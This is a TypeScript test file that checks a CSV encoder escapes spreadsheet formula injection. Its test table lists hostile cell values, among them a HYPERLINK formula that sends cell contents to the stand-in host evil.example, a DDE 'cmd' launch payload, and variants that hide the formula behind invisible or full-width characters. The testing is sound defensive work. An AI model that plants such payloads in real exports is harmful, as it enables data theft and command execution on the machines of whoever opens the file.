import * as fc from 'fast-check'
import { expect, it } from 'vitest'
import { csvCell, csvLine } from './csv.ts'

it.each([
  ['=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
  ['+1+1', `"'+1+1"`],
  ['-2+3', `"'-2+3"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['\t=1', `"'\t=1"`],
  ['\r=1', `"'\r=1"`],
  [' =1', `"' =1"`],
  ['＝1', `"'＝1"`],
  ['\u200b=1', `"'\u200b=1"`],
  ["|cmd'/C calc'!A0", `"'|cmd'/C calc'!A0"`],
  ['Users, "all"', '"Users, ""all"""'],
  ['select 1\nfrom t', '"select 1\nfrom t"'],
  ['', '""'],
])('[Z8] what a spreadsheet would run is text: %j', (value, cell) => {
  expect(csvCell(value)).toBe(cell)
})

it('[Z8] whatever is in a cell, a line has as many cells as were given, and none begins a formula', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1 }), (cells) => {
      const read = readLine(csvLine(cells))
      expect(read.map((cell, i) => (cell === cells[i] ? cell : cell.slice(1)))).toEqual(cells)
      for (const cell of read) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    }),
  )
})

function readLine(line: string): string[] {
  const cells = [...line.slice(0, -2).matchAll(/"((?:[^"]|"")*)"(?:,|$)/gu)]
  return cells.map(([, cell = '']) => cell.replaceAll('""', '"'))
}
